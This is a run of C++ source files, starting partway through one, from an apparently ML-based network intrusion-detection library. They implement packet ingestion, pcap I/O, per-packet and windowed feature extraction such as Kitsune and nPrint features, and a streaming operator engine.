                                       std::to_string(c));
    }
  }

  BoundedPacketQueue queue(opts_.queue_capacity, opts_.overflow);
  const netio::LinkType link = source.link();

  // Consumers follow the parallel.h exception convention: the first failure
  // is captured and rethrown on the caller once every thread has joined.
  std::vector<std::exception_ptr> errors(opts_.consumers);
  std::vector<std::thread> threads;
  threads.reserve(opts_.consumers);
  for (size_t c = 0; c < opts_.consumers; ++c) {
    threads.emplace_back([this, c, &queue, &scorers, &errors, link] {
      try {
        consume(c, queue, *scorers[c], link);
      } catch (...) {
        errors[c] = std::current_exception();
        queue.close();  // don't leave the producer blocked on a dead run
      }
    });
  }

  // Producer loop on the calling thread.
  netio::SourcePacket sp;
  while (!stop_.load(std::memory_order_relaxed) && source.next(sp)) {
    if (!queue.push(std::move(sp))) break;  // closed: consumer died or stop
    enqueued_.fetch_add(1, std::memory_order_relaxed);
  }
  queue.close();
  for (auto& t : threads) t.join();

  dropped_snapshot_ = queue.dropped();
  high_water_snapshot_ = queue.high_water();
  for (auto& err : errors) {
    if (err) std::rethrow_exception(err);
  }
  return stats();
}

IngestStats IngestRuntime::stats() const {
  IngestStats s;
  s.enqueued = enqueued_.load(std::memory_order_relaxed);
  s.dropped = dropped_snapshot_;
  s.parse_skipped = parse_skipped_.load(std::memory_order_relaxed);
  s.scored = scored_.load(std::memory_order_relaxed);
  s.alerted = alerted_.load(std::memory_order_relaxed);
  s.queue_high_water = high_water_snapshot_;
  return s;
}

}  // namespace lumen::core
