// Packet-level operations: field extraction, filtering, grouping, time
// slicing, windowed/group aggregates, Kitsune damped statistics, nPrint-style
// bit features, and PDML-style wide extraction.
#include <algorithm>
#include <deque>
#include <map>
#include <set>

#include "common/parallel.h"
#include "core/kitsune_extractor.h"
#include "core/ops_common.h"

namespace lumen::core {

namespace {

using features::FeatureTable;
using netio::PacketView;

PacketSet whole_dataset_set(OpContext& ctx) {
  PacketSet ps;
  ps.dataset = ctx.dataset;
  ps.idx.resize(ctx.dataset->trace.view.size());
  for (uint32_t i = 0; i < ps.idx.size(); ++i) ps.idx[i] = i;
  return ps;
}

// "field_extract": source / pass-through declaring the packet fields a
// pipeline needs. With no input it materializes the dataset's packet set
// (one parsing pass is shared by all downstream consumers).
Result<Value> run_field_extract(const OpSpec& spec,
                                const std::vector<const Value*>& in,
                                OpContext& ctx) {
  for (const std::string& f : spec.params.get_string_list("param")) {
    double tmp = 0.0;
    if (f != "iat" && !packet_field(PacketView{}, f, &tmp)) {
      return Error::make("field_extract", "unknown field '" + f + "'");
    }
  }
  if (!in.empty()) {
    auto ps = input_as<PacketSet>(in, 0, "field_extract");
    if (!ps.ok()) return ps.error();
    return Value(*ps.value());
  }
  if (ctx.dataset == nullptr) {
    return Error::make("field_extract", "no dataset bound to the context");
  }
  return Value(whole_dataset_set(ctx));
}

// "filter": keep packets satisfying all requirements.
Result<Value> run_filter(const OpSpec& spec,
                         const std::vector<const Value*>& in, OpContext& ctx) {
  auto psr = input_as<PacketSet>(in, 0, "filter");
  if (!psr.ok()) return psr.error();
  const PacketSet& ps = *psr.value();
  const std::vector<std::string> require = spec.params.get_string_list("require");
  PacketSet out;
  out.dataset = ps.dataset;
  for (uint32_t i : ps.idx) {
    const PacketView& v = ps.dataset->trace.view[i];
    bool keep = true;
    for (const std::string& req : require) {
      double val = 0.0;
      if (!packet_field(v, req, &val) || val == 0.0) {
        keep = false;
        break;
      }
    }
    if (keep) out.idx.push_back(i);
  }
  return Value(std::move(out));
}

// "groupby": PacketSet -> GroupedPackets by a key field. The paper's
// template calls the key "flowid".
Result<Value> run_groupby(const OpSpec& spec,
                          const std::vector<const Value*>& in,
                          OpContext& ctx) {
  auto psr = input_as<PacketSet>(in, 0, "groupby");
  if (!psr.ok()) return psr.error();
  const PacketSet& ps = *psr.value();
  std::vector<std::string> keys = spec.params.get_string_list("flowid");
  if (keys.empty()) keys = spec.params.get_string_list("key");
  if (keys.empty()) return Error::make("groupby", "missing 'flowid' param");
  auto keyfn = make_group_key(keys.front());
  if (!keyfn.ok()) return keyfn.error();

  GroupedPackets out;
  out.dataset = ps.dataset;
  out.group_field = keys.front();
  std::map<std::string, size_t> index;
  for (uint32_t i : ps.idx) {
    const std::string k = keyfn.value()(ps.dataset->trace.view[i]);
    auto [it, fresh] = index.emplace(k, out.groups.size());
    if (fresh) {
      Group g;
      g.key = k;
      g.window_start = ps.dataset->trace.view[i].ts;
      out.groups.push_back(std::move(g));
    }
    out.groups[it->second].idx.push_back(i);
  }
  return Value(std::move(out));
}

// "time_slice": subdivide groups (or the whole set) into fixed windows.
// "align" picks the time origin: "group" (default) starts each group's
// window clock at its own first packet; "global" shares one origin — the
// earliest packet across all groups — so window k means the same capture
// interval everywhere (the alignment the streaming engine requires, since
// a live chain has a single clock to flush on).
Result<Value> run_time_slice(const OpSpec& spec,
                             const std::vector<const Value*>& in,
                             OpContext& ctx) {
  const double window = spec.params.get_number("window", 10.0);
  if (window <= 0.0) return Error::make("time_slice", "window must be > 0");
  const std::string align = spec.params.get_string("align", "group");
  if (align != "group" && align != "global") {
    return Error::make("time_slice",
                       "align must be \"group\" or \"global\", got '" + align +
                           "'");
  }

  GroupedPackets source;
  if (const auto* gp = std::get_if<GroupedPackets>(in[0])) {
    source = *gp;
  } else if (const auto* ps = std::get_if<PacketSet>(in[0])) {
    source.dataset = ps->dataset;
    source.group_field = "(all)";
    Group g;
    g.key = "all";
    g.idx = ps->idx;
    if (!g.idx.empty()) {
      g.window_start = ps->dataset->trace.view[g.idx.front()].ts;
    }
    source.groups.push_back(std::move(g));
  } else {
    return Error::make("time_slice", "input must be packets or groups");
  }

  double global_t0 = 0.0;
  if (align == "global") {
    bool any = false;
    for (const Group& g : source.groups) {
      if (g.idx.empty()) continue;
      const double ts = source.dataset->trace.view[g.idx.front()].ts;
      if (!any || ts < global_t0) global_t0 = ts;
      any = true;
    }
  }

  GroupedPackets out;
  out.dataset = source.dataset;
  out.group_field = source.group_field + "#window";
  for (const Group& g : source.groups) {
    if (g.idx.empty()) continue;
    const double t0 = align == "global"
                          ? global_t0
                          : source.dataset->trace.view[g.idx.front()].ts;
    std::map<int64_t, Group> windows;
    for (uint32_t i : g.idx) {
      const double ts = source.dataset->trace.view[i].ts;
      const int64_t w = static_cast<int64_t>((ts - t0) / window);
      auto [it, fresh] = windows.try_emplace(w);
      if (fresh) {
        it->second.key = g.key + "#w" + std::to_string(w);
        it->second.window_start = t0 + static_cast<double>(w) * window;
      }
      it->second.idx.push_back(i);
    }
    for (auto& [w, grp] : windows) out.groups.push_back(std::move(grp));
  }
  return Value(std::move(out));
}

// "apply_aggregates": GroupedPackets -> per-group FeatureTable.
Result<Value> run_apply_aggregates(const OpSpec& spec,
                                   const std::vector<const Value*>& in,
                                   OpContext& ctx) {
  auto gpr = input_as<GroupedPackets>(in, 0, "apply_aggregates");
  if (!gpr.ok()) return gpr.error();
  const GroupedPackets& gp = *gpr.value();
  const std::vector<AggSpec> aggs = parse_agg_list(spec.params);
  for (const AggSpec& a : aggs) {
    static const std::set<std::string> kFuncs = {
        "mean", "std",   "min",      "max",   "median", "sum",
        "count", "rate", "bytes_rate", "distinct", "entropy", "first",
        "last", "range", "duration", "change_rate"};
    if (kFuncs.count(a.func) == 0) {
      return Error::make("apply_aggregates", "unknown func '" + a.func + "'");
    }
  }
  std::vector<std::vector<uint32_t>> units;
  units.reserve(gp.groups.size());
  for (const Group& g : gp.groups) units.push_back(g.idx);
  return Value(table_from_units(*gp.dataset, units, aggs));
}

// "window_stats": per-PACKET contextual features — each packet gets
// aggregates computed over its group's packets within the trailing window
// (the stateful half of the ML-DDoS feature set).
Result<Value> run_window_stats(const OpSpec& spec,
                               const std::vector<const Value*>& in,
                               OpContext& ctx) {
  auto psr = input_as<PacketSet>(in, 0, "window_stats");
  if (!psr.ok()) return psr.error();
  const PacketSet& ps = *psr.value();
  const double window = spec.params.get_number("window", 10.0);
  const std::string key = spec.params.get_string("key", "srcip");
  auto keyfn = make_group_key(key);
  if (!keyfn.ok()) return keyfn.error();
  const std::vector<AggSpec> aggs = parse_agg_list(spec.params);

  std::vector<std::string> names;
  for (const AggSpec& a : aggs) {
    names.push_back(key + "_" + std::to_string(static_cast<int>(window)) +
                    "s_" + a.column_name());
  }
  FeatureTable t = FeatureTable::make(ps.idx.size(), names);

  const trace::Dataset& ds = *ps.dataset;
  std::map<std::string, std::deque<uint32_t>> history;
  std::vector<uint32_t> unit;
  for (size_t r = 0; r < ps.idx.size(); ++r) {
    const uint32_t i = ps.idx[r];
    const PacketView& v = ds.trace.view[i];
    std::deque<uint32_t>& h = history[keyfn.value()(v)];
    h.push_back(i);
    while (!h.empty() && v.ts - ds.trace.view[h.front()].ts > window) {
      h.pop_front();
    }
    unit.assign(h.begin(), h.end());
    for (size_t c = 0; c < aggs.size(); ++c) {
      t.at(r, c) = compute_agg(ds, unit, aggs[c]);
    }
    t.labels[r] = ds.label_at(i);
    t.attack[r] = ds.attack_at(i);
    t.unit_id[r] = i;
    t.unit_time[r] = v.ts;
  }
  return Value(std::move(t));
}

// "packet_features": per-packet field vector (optionally one-hot app).
Result<Value> run_packet_features(const OpSpec& spec,
                                  const std::vector<const Value*>& in,
                                  OpContext& ctx) {
  auto psr = input_as<PacketSet>(in, 0, "packet_features");
  if (!psr.ok()) return psr.error();
  const PacketSet& ps = *psr.value();
  std::vector<std::string> fields = spec.params.get_string_list("param");
  if (fields.empty()) fields = {"len", "iat", "proto", "sport", "dport"};
  const bool one_hot_app = spec.params.get_bool("one_hot_app", false);

  std::vector<std::string> names = fields;
  const int kAppCount = 10;  // netio::AppProto cardinality
  if (one_hot_app) {
    for (int a = 0; a < kAppCount; ++a) {
      names.push_back(std::string("app_") +
                      netio::app_proto_name(static_cast<netio::AppProto>(a)));
    }
  }
  FeatureTable t = FeatureTable::make(ps.idx.size(), names);
  const trace::Dataset& ds = *ps.dataset;
  for (size_t r = 0; r < ps.idx.size(); ++r) {
    const uint32_t i = ps.idx[r];
    const PacketView& v = ds.trace.view[i];
    for (size_t c = 0; c < fields.size(); ++c) {
      if (fields[c] == "iat") {
        t.at(r, c) = r > 0 ? v.ts - ds.trace.view[ps.idx[r - 1]].ts : 0.0;
      } else {
        double val = 0.0;
        packet_field(v, fields[c], &val);
        t.at(r, c) = val;
      }
    }
    if (one_hot_app) {
      t.at(r, fields.size() + static_cast<size_t>(v.app)) = 1.0;
    }
    t.labels[r] = ds.label_at(i);
    t.attack[r] = ds.attack_at(i);
    t.unit_id[r] = i;
    t.unit_time[r] = v.ts;
  }
  return Value(std::move(t));
}

// "damped_stats": Kitsune's per-packet feature extractor — a thin batch
// wrapper over the streaming KitsuneExtractor (core/kitsune_extractor.h),
// so batch pipelines and the online detector compute identical features.
Result<Value> run_damped_stats(const OpSpec& spec,
                               const std::vector<const Value*>& in,
                               OpContext& ctx) {
  auto psr = input_as<PacketSet>(in, 0, "damped_stats");
  if (!psr.ok()) return psr.error();
  const PacketSet& ps = *psr.value();
  std::vector<double> lambdas = spec.params.get_number_list("lambdas");

  KitsuneExtractor extractor(lambdas);
  FeatureTable t =
      FeatureTable::make(ps.idx.size(), extractor.feature_names());
  const trace::Dataset& ds = *ps.dataset;
  std::vector<double> row;
  for (size_t r = 0; r < ps.idx.size(); ++r) {
    const uint32_t i = ps.idx[r];
    const PacketView& v = ds.trace.view[i];
    extractor.process(v, row);
    std::copy(row.begin(), row.end(),
              t.data.begin() + static_cast<std::ptrdiff_t>(r * t.cols));
    t.labels[r] = ds.label_at(i);
    t.attack[r] = ds.attack_at(i);
    t.unit_id[r] = i;
    t.unit_time[r] = v.ts;
  }
  return Value(std::move(t));
}

// "nprint": per-bit header representation. Absent layers are encoded as -1,
// matching the nPrint tool's semantics.
Result<Value> run_nprint(const OpSpec& spec,
                         const std::vector<const Value*>& in, OpContext& ctx) {
  auto psr = input_as<PacketSet>(in, 0, "nprint");
  if (!psr.ok()) return psr.error();
  const PacketSet& ps = *psr.value();
  std::vector<std::string> layers = spec.params.get_string_list("layers");
  if (layers.empty()) layers = {"ipv4", "tcp", "udp", "icmp"};
  const size_t payload_bytes =
      static_cast<size_t>(spec.params.get_int("payload_bytes", 0));

  struct LayerSpec {
    std::string name;
    size_t bytes;
  };
  std::vector<LayerSpec> plan;
  for (const std::string& l : layers) {
    if (l == "ipv4") plan.push_back({l, 20});
    else if (l == "tcp") plan.push_back({l, 20});
    else if (l == "udp") plan.push_back({l, 8});
    else if (l == "icmp") plan.push_back({l, 8});
    else return Error::make("nprint", "unknown layer '" + l + "'");
  }
  if (payload_bytes > 0) plan.push_back({"payload", payload_bytes});

  std::vector<std::string> names;
  for (const LayerSpec& l : plan) {
    for (size_t b = 0; b < l.bytes * 8; ++b) {
      names.push_back(l.name + "_" + std::to_string(b));
    }
  }

  const trace::Dataset& ds = *ps.dataset;
  FeatureTable t = FeatureTable::make(ps.idx.size(), names);
  // Rows are independent: run the map phase across the pool (the paper's
  // Ray-style parallel feature building).
  lumen::parallel_for(0, ps.idx.size(), [&](size_t r) {
    const uint32_t i = ps.idx[r];
    const PacketView& v = ds.trace.view[i];
    const netio::Bytes& raw = ds.trace.raw[i].data;
    size_t c = 0;
    for (const LayerSpec& l : plan) {
      int off = -1;
      if (l.name == "ipv4" && v.has_ip) off = v.ip_off;
      else if (l.name == "tcp" && v.proto == netio::IpProto::kTcp) off = v.l4_off;
      else if (l.name == "udp" && v.proto == netio::IpProto::kUdp) off = v.l4_off;
      else if (l.name == "icmp" && v.proto == netio::IpProto::kIcmp) off = v.l4_off;
      else if (l.name == "payload" && v.payload_len > 0) off = v.payload_off;
      for (size_t b = 0; b < l.bytes; ++b) {
        const size_t at = off >= 0 ? static_cast<size_t>(off) + b : SIZE_MAX;
        if (off < 0 || at >= raw.size()) {
          for (int bit = 0; bit < 8; ++bit) t.at(r, c++) = -1.0;
        } else {
          const uint8_t byte = raw[at];
          for (int bit = 7; bit >= 0; --bit) {
            t.at(r, c++) = ((byte >> bit) & 1) != 0 ? 1.0 : 0.0;
          }
        }
      }
    }
    t.labels[r] = ds.label_at(i);
    t.attack[r] = ds.attack_at(i);
    t.unit_id[r] = i;
    t.unit_time[r] = v.ts;
  });
  return Value(std::move(t));
}

// "pdml_fields": the smart-home IDS's wide per-packet representation —
// every scalar field Lumen knows plus one-hot application protocol. Gated
// on app-metadata-bearing datasets by the algorithm registry.
Result<Value> run_pdml_fields(const OpSpec& spec,
                              const std::vector<const Value*>& in,
                              OpContext& ctx) {
  OpSpec wide = spec;
  Json fields = Json::array();
  for (const std::string& f : known_packet_fields()) {
    if (f != "ts") fields.push_back(Json::string(f));
  }
  fields.push_back(Json::string("iat"));
  wide.params.set("param", std::move(fields));
  wide.params.set("one_hot_app", Json::boolean(true));
  return run_packet_features(wide, in, ctx);
}

}  // namespace

void register_packet_ops() {
  register_simple("field_extract", {}, ValueKind::kPacketSet,
                  run_field_extract);
  register_simple("filter", {ValueKind::kPacketSet}, ValueKind::kPacketSet,
                  run_filter);
  register_simple("groupby", {ValueKind::kPacketSet},
                  ValueKind::kGroupedPackets, run_groupby);
  register_simple("time_slice", {ValueKind::kAny}, ValueKind::kGroupedPackets,
                  run_time_slice);
  register_simple("apply_aggregates", {ValueKind::kGroupedPackets},
                  ValueKind::kFeatureTable, run_apply_aggregates);
  register_simple("window_stats", {ValueKind::kPacketSet},
                  ValueKind::kFeatureTable, run_window_stats);
  register_simple("packet_features", {ValueKind::kPacketSet},
                  ValueKind::kFeatureTable, run_packet_features);
  register_simple("damped_stats", {ValueKind::kPacketSet},
                  ValueKind::kFeatureTable, run_damped_stats);
  register_simple("nprint", {ValueKind::kPacketSet}, ValueKind::kFeatureTable,
                  run_nprint);
  register_simple("pdml_fields", {ValueKind::kPacketSet},
                  ValueKind::kFeatureTable, run_pdml_fields);
}

}  // namespace lumen::core
