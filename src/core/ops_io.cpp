// I/O operations: sourcing packets from a pcap savefile and persisting /
// reloading feature tables as CSV. These make pipelines usable on real
// captures and let expensive feature extractions be shared across runs.
#include "core/ops_common.h"
#include "features/csv.h"
#include "netio/pcap.h"

namespace lumen::core {

namespace {

using features::FeatureTable;

// "pcap_source": load a capture from disk as an (unlabeled) packet set.
Result<Value> run_pcap_source(const OpSpec& spec,
                              const std::vector<const Value*>& in,
                              OpContext& ctx) {
  const std::string path = spec.params.get_string("path");
  if (path.empty()) return Error::make("pcap_source", "missing 'path'");
  Result<netio::Trace> trace = netio::read_pcap(path);
  if (!trace.ok()) return trace.error();

  auto ds = std::make_shared<trace::Dataset>();
  ds->id = "pcap:" + path;
  ds->standin = path;
  ds->label_granularity = trace::Granularity::kPacket;
  ds->trace = std::move(trace).value();
  ds->pkt_label.assign(ds->trace.view.size(), 0);   // unlabeled capture
  ds->pkt_attack.assign(ds->trace.view.size(), 0);
  ctx.owned_datasets.push_back(ds);

  PacketSet ps;
  ps.dataset = ds.get();
  ps.idx.resize(ds->trace.view.size());
  for (uint32_t i = 0; i < ps.idx.size(); ++i) ps.idx[i] = i;
  return Value(std::move(ps));
}

// "pcap_sink": write a packet set back out as a classic pcap savefile;
// passes the set through so it can sit mid-pipeline.
Result<Value> run_pcap_sink(const OpSpec& spec,
                            const std::vector<const Value*>& in,
                            OpContext& ctx) {
  auto psr = input_as<PacketSet>(in, 0, "pcap_sink");
  if (!psr.ok()) return psr.error();
  const PacketSet& ps = *psr.value();
  const std::string path = spec.params.get_string("path");
  if (path.empty()) return Error::make("pcap_sink", "missing 'path'");
  netio::Trace out;
  out.link = ps.dataset->trace.link;
  out.raw.reserve(ps.idx.size());
  for (uint32_t i : ps.idx) out.raw.push_back(ps.dataset->trace.raw[i]);
  Result<void> written = netio::write_pcap(path, out);
  if (!written.ok()) return written.error();
  return Value(ps);
}

// "save_features": persist a table as CSV; passes the table through so it
// can sit mid-pipeline.
Result<Value> run_save_features(const OpSpec& spec,
                                const std::vector<const Value*>& in,
                                OpContext& ctx) {
  auto tr = input_as<FeatureTable>(in, 0, "save_features");
  if (!tr.ok()) return tr.error();
  const std::string path = spec.params.get_string("path");
  if (path.empty()) return Error::make("save_features", "missing 'path'");
  Result<void> saved = features::save_csv(*tr.value(), path);
  if (!saved.ok()) return saved.error();
  return Value(*tr.value());
}

// "load_features": source a table from a previously saved CSV.
Result<Value> run_load_features(const OpSpec& spec,
                                const std::vector<const Value*>& in,
                                OpContext& ctx) {
  const std::string path = spec.params.get_string("path");
  if (path.empty()) return Error::make("load_features", "missing 'path'");
  Result<FeatureTable> t = features::load_csv(path);
  if (!t.ok()) return t.error();
  return Value(std::move(t).value());
}

}  // namespace

void register_io_ops() {
  register_simple("pcap_source", {}, ValueKind::kPacketSet, run_pcap_source);
  register_simple("save_features", {ValueKind::kFeatureTable},
                  ValueKind::kFeatureTable, run_save_features);
  register_simple("load_features", {}, ValueKind::kFeatureTable,
                  run_load_features);
  register_simple("pcap_sink", {ValueKind::kPacketSet},
                  ValueKind::kPacketSet, run_pcap_sink);
}

}  // namespace lumen::core
