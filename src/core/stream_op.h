// Streaming operator engine: run compiled pipeline specs continuously on
// the live path (the paper's "one description, two execution modes").
//
// The batch Engine materializes every intermediate value in one pass per
// operation; until now the ingestion runtime could only drive the hand-built
// KitsuneScorer, so the ~30 template ops never ran live. This module closes
// that split with push-based incremental operators in the style of the
// stream-processing DSLs: a chain of StreamOps receives one packet at a time
// (push), accumulates per-group / per-window state in FlatMap tables, and
// emits a per-epoch feature batch downstream whenever the capture clock
// crosses a tumbling-window boundary (flush_epoch).
//
//   auto chain = compile_streaming(spec, opts);       // the SAME spec the
//   chain.value()->set_callback([&](EpochBatch&& e) { // batch Engine runs
//     ...per-epoch rows, scores, alerts...
//   });
//   for each live packet v: chain.value()->push(v);
//   chain.value()->finish();                          // flush open windows
//
// The batch engine stays the oracle: for the supported op subset (and
// time_slice with align="global"), the rows a chain emits for epoch k are
// bit-identical to what the batch Engine computes for window k of the same
// trace — see tests/stream_engine_test.cpp. Batch-only ops are rejected at
// compile time with a diagnostic saying why and what to do instead.
#pragma once

#include <functional>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "common/telemetry.h"
#include "core/pipeline.h"
#include "features/table.h"
#include "netio/packet.h"

namespace lumen::core {

/// One batch of rows emitted at an epoch boundary. For windowed chains an
/// epoch is one global tumbling window (epoch k = window k of the shared
/// time origin); for per-packet chains (damped_stats / packet_features) it
/// is one micro-batch of rows and `epoch` is a sequence number.
struct EpochBatch {
  uint64_t epoch = 0;
  double window_start = 0.0;  // capture-time start of the window
  /// Per-row printable unit key ("192.168.1.12#w3"-style for grouped
  /// windowed chains; empty for per-packet chains). Aligned with table rows.
  std::vector<std::string> keys;
  /// The aggregate/feature rows of this epoch. Labels and attack tags are
  /// zero — the live path has no ground truth; unit_id carries the running
  /// row number (windowed chains) or the capture index (per-packet chains).
  features::FeatureTable table;
  /// Filled by a model-scoring stage (when the spec ends in `predict`).
  bool scored = false;
  std::vector<double> scores;   // per row
  std::vector<int> predictions; // per row, 1 = alert
};

/// The tuple flowing between packet-phase operators: a borrowed view plus
/// the group/window coordinates assigned so far along the chain.
struct PacketTuple {
  const netio::PacketView* view = nullptr;
  uint32_t group = 0;         // group-directory id (0 when no groupby ran)
  uint64_t window = 0;        // tumbling-window index (0 when no time_slice)
  double window_start = 0.0;  // capture-time start of `window`
};

/// flush_epoch() argument meaning "flush everything still open" — sent by
/// StreamPipeline::finish() at end of stream.
inline constexpr uint64_t kFlushAll = UINT64_MAX;

/// One incremental operator. Packet-phase ops transform/route PacketTuples;
/// row-phase ops transform EpochBatches; flush_epoch is the control signal
/// that closes an epoch (originated by the time-slice stage at a window
/// boundary, or by finish() with kFlushAll). reset() clears operator state
/// for a fresh stream without recompiling (models and fitted transforms are
/// configuration, not state — they survive).
class StreamOp {
 public:
  virtual ~StreamOp() = default;

  virtual const char* name() const = 0;
  virtual void push(PacketTuple& t) { forward(t); }
  virtual void push_rows(EpochBatch&& batch) { forward_rows(std::move(batch)); }
  virtual void flush_epoch(uint64_t epoch) { forward_flush(epoch); }
  virtual void reset() {}

  void set_next(StreamOp* next) { next_ = next; }
  /// Per-operator telemetry: a Span named `span_name` is recorded around
  /// each epoch flush this operator performs (null registry = inert).
  void set_telemetry(telemetry::Registry* reg, std::string span_name) {
    reg_ = reg;
    span_name_ = std::move(span_name);
  }

 protected:
  void forward(PacketTuple& t) {
    if (next_ != nullptr) next_->push(t);
  }
  void forward_rows(EpochBatch&& batch) {
    if (next_ != nullptr) next_->push_rows(std::move(batch));
  }
  void forward_flush(uint64_t epoch) {
    if (next_ != nullptr) next_->flush_epoch(epoch);
  }

  StreamOp* next_ = nullptr;
  telemetry::Registry* reg_ = nullptr;  // nullptr = no spans
  std::string span_name_;
};

/// Options for compile_streaming.
struct StreamingOptions {
  /// Externally-supplied bindings a deploy spec consumes — typically the
  /// trained ModelValue a batch `train` run produced (Engine::run and
  /// Engine::type_check accept the same map as their `seed` parameter, so
  /// one spec + one binding set drives both paths). Streaming rejects
  /// `model`/`train` ops: training is batch-only.
  std::map<std::string, Value> bindings;
  /// Rows per emitted batch for per-packet chains (damped_stats /
  /// packet_features) — the micro-batch size of the fused scoring path.
  size_t micro_batch = 64;
  /// Where per-operator flush spans and chain counters land. nullptr (the
  /// default) keeps the chain uninstrumented — the cheapest mode.
  telemetry::Registry* registry = nullptr;
  /// Prepended to every instrument/span name ("<prefix>op.<func>", ...).
  std::string instrument_prefix = "stream.";
};

namespace stream_detail {
class EmitOp;
}

/// A compiled operator chain. Single-threaded by design (like a
/// PacketScorer): the ingestion runtime builds one pipeline per consumer.
class StreamPipeline {
 public:
  using EpochCallback = std::function<void(EpochBatch&&)>;

  /// Aggregate chain counters (mutated by the lowered operators on the
  /// pushing thread; read through the accessors below).
  struct Counters {
    uint64_t packets = 0, rows = 0, epochs = 0, alerts = 0, late = 0;
  };

  /// Invoked (on the pushing thread) for every epoch the chain completes.
  void set_callback(EpochCallback cb);

  /// Feed one parsed packet, in capture order. May synchronously invoke the
  /// epoch callback when the packet's timestamp closes a window.
  void push(const netio::PacketView& v);

  /// End of stream: flush every open window/micro-batch through the chain.
  void finish();

  /// Clear all operator state for a fresh stream (group directories, window
  /// clocks, accumulators, counters). Seeded models/transforms survive.
  void reset();

  /// The lowered op funcs, in chain order (diagnostics, benches).
  const std::vector<std::string>& op_funcs() const { return funcs_; }

  uint64_t packets() const { return counts_.packets; }
  uint64_t rows() const { return counts_.rows; }
  uint64_t epochs() const { return counts_.epochs; }
  uint64_t alerts() const { return counts_.alerts; }
  /// Packets whose timestamp fell behind the current window (clamped into
  /// it and counted — the streaming path assumes in-order capture time).
  uint64_t late_packets() const { return counts_.late; }

 private:
  friend Result<std::unique_ptr<StreamPipeline>> compile_streaming(
      const PipelineSpec& spec, StreamingOptions opts);

  Counters counts_;
  std::vector<std::unique_ptr<StreamOp>> ops_;  // chain order; [0] is entry
  std::vector<std::string> funcs_;
  StreamOp* front_ = nullptr;
  stream_detail::EmitOp* emit_ = nullptr;  // terminal (owned by ops_)
  bool finished_ = false;
};

/// Lower `spec` into a streaming operator chain. Type-checks with the batch
/// engine's machinery first (seeded with opts.bindings), then lowers the
/// supported subset:
///
///   field_extract, filter, groupby, time_slice (align="global" only),
///   apply_aggregates (all funcs except the batch-only "median"),
///   normalize (per-epoch refit, or mode="running"), predict (seeded
///   model), damped_stats, packet_features
///
/// Everything else — training, flow/connection reassembly, table surgery,
/// evaluation, I/O — is rejected with a diagnostic naming the op and the
/// batch-only reason.
Result<std::unique_ptr<StreamPipeline>> compile_streaming(
    const PipelineSpec& spec, StreamingOptions opts = {});

}  // namespace lumen::core
