#include "core/op.h"

#include <mutex>

#include "netio/bytes.h"

namespace lumen::core {

OperationRegistry& OperationRegistry::instance() {
  static OperationRegistry reg;
  return reg;
}

void OperationRegistry::register_op(const std::string& func,
                                    OperationFactory factory) {
  factories_[func] = std::move(factory);
}

Result<OperationPtr> OperationRegistry::create(OpSpec spec) const {
  auto it = factories_.find(spec.func);
  if (it == factories_.end()) {
    return Error::make("registry", "unknown operation '" + spec.func + "'");
  }
  return it->second(std::move(spec));
}

std::vector<std::string> OperationRegistry::known_ops() const {
  std::vector<std::string> out;
  out.reserve(factories_.size());
  for (const auto& [k, v] : factories_) out.push_back(k);
  return out;
}

bool OperationRegistry::knows(const std::string& func) const {
  return factories_.count(func) > 0;
}

bool packet_field(const netio::PacketView& v, const std::string& field,
                  double* out) {
  using netio::TcpFlag;
  if (field == "ts") *out = v.ts;
  else if (field == "len" || field == "packetLength") *out = v.wire_len;
  else if (field == "ip_len") *out = v.ip_len;
  else if (field == "payload_len") *out = v.payload_len;
  else if (field == "srcIP" || field == "srcip") *out = v.src_ip;
  else if (field == "dstIP" || field == "dstip") *out = v.dst_ip;
  else if (field == "srcPort" || field == "sport") *out = v.src_port;
  else if (field == "dstPort" || field == "dport") *out = v.dst_port;
  else if (field == "proto") *out = v.proto_raw;
  else if (field == "ttl") *out = v.ttl;
  else if (field == "TCPFlags" || field == "tcpflags") *out = v.tcp_flags;
  else if (field == "tcp_window") *out = v.tcp_window;
  else if (field == "tcp_seq") *out = v.tcp_seq;
  else if (field == "icmp_type") *out = v.icmp_type;
  else if (field == "app") *out = static_cast<double>(v.app);
  else if (field == "is_syn") *out = v.tcp_flag(TcpFlag::kSyn) ? 1.0 : 0.0;
  else if (field == "is_ack") *out = v.tcp_flag(TcpFlag::kAck) ? 1.0 : 0.0;
  else if (field == "is_fin") *out = v.tcp_flag(TcpFlag::kFin) ? 1.0 : 0.0;
  else if (field == "is_rst") *out = v.tcp_flag(TcpFlag::kRst) ? 1.0 : 0.0;
  else if (field == "is_psh") *out = v.tcp_flag(TcpFlag::kPsh) ? 1.0 : 0.0;
  else if (field == "has_ip") *out = v.has_ip ? 1.0 : 0.0;
  else if (field == "is_tcp") *out = v.proto == netio::IpProto::kTcp ? 1.0 : 0.0;
  else if (field == "is_udp") *out = v.proto == netio::IpProto::kUdp ? 1.0 : 0.0;
  else if (field == "is_icmp") *out = v.proto == netio::IpProto::kIcmp ? 1.0 : 0.0;
  else if (field == "dot11_type") *out = static_cast<double>(v.dot11_type);
  else if (field == "dot11_subtype") *out = v.dot11_subtype;
  else return false;
  return true;
}

const std::vector<std::string>& known_packet_fields() {
  static const std::vector<std::string> kFields = {
      "ts",        "len",       "ip_len",   "payload_len", "srcip",
      "dstip",     "sport",     "dport",    "proto",       "ttl",
      "tcpflags",  "tcp_window", "tcp_seq", "icmp_type",   "app",
      "is_syn",    "is_ack",    "is_fin",   "is_rst",      "is_psh",
      "has_ip",    "is_tcp",    "is_udp",   "is_icmp",     "dot11_type",
      "dot11_subtype"};
  return kFields;
}

namespace {

std::string mac_str(const netio::MacAddr& m) {
  char buf[18];
  std::snprintf(buf, sizeof(buf), "%02x%02x%02x%02x%02x%02x", m[0], m[1], m[2],
                m[3], m[4], m[5]);
  return buf;
}

std::string lower(std::string s) {
  for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

}  // namespace

Result<std::function<std::string(const netio::PacketView&)>> make_group_key(
    const std::string& key_in) {
  const std::string key = lower(key_in);
  using netio::PacketView;
  if (key == "srcip")
    return {[](const PacketView& v) { return netio::ipv4_to_string(v.src_ip); }};
  if (key == "dstip")
    return {[](const PacketView& v) { return netio::ipv4_to_string(v.dst_ip); }};
  if (key == "srcdst" || key == "channel")
    return {[](const PacketView& v) {
      return netio::ipv4_to_string(v.src_ip) + ">" +
             netio::ipv4_to_string(v.dst_ip);
    }};
  if (key == "socket")
    return {[](const PacketView& v) {
      return netio::ipv4_to_string(v.src_ip) + ":" +
             std::to_string(v.src_port) + ">" +
